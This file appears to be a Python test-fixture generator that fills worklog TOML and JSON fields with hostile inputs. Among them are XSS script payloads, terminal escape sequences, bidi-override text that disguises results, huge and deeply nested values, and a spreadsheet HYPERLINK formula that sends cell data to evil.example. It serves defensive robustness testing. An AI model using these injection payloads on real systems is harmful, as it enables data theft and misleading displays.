import json
import re

RUNS = "worklog_runs.json"


def say(file, text):
    """The log with this as every hypothesis, counter and result. A JSON string is a TOML string."""
    quoted = json.dumps(text)
    entries = (f"{key}_{version} = {quoted}\n" for version in range(1, 5) for key in ("hypothesis", "counter", "result"))
    file.write_text("".join(entries))


def make_tags(_submission, _part, file):
    say(file, "</td></tr></table></script><script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>")


def make_terminal(_submission, _part, file):
    say(file, "\u001b]0;title\u0007\u001b[2J\u001b[31mred\u009b5m\b\b\b\u007f\r\nversion 9  1 us")


def make_directions(_submission, _part, file):
    say(file, "\u202epassed\u2066 0/5\u2069\u2028right_00\u2029")


def make_formulas(_submission, _part, file):
    say(file, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")


def make_a_megabyte(_submission, _part, file):
    say(file, "=1 " * 25_000)


def make_nested(_submission, _part, file):
    text = file.read_text()
    file.write_text(re.sub(r"^(counter_\d) = .*$", lambda found: f"{found[1]} = " + "[{ a = " * 20_000, text, flags=re.MULTILINE))


def make_device_of_tags(_submission, part, _file):
    runs = json.loads((part / RUNS).read_text())["runs"]
    tag = "<script>alert(1)</script>\u001b[2J"
    for run in runs:
        run.update(device=tag, limiter=tag, timed=tag, counters={tag: 1, **run["counters"]})
    (part / RUNS).write_text(json.dumps({"runs": runs}))
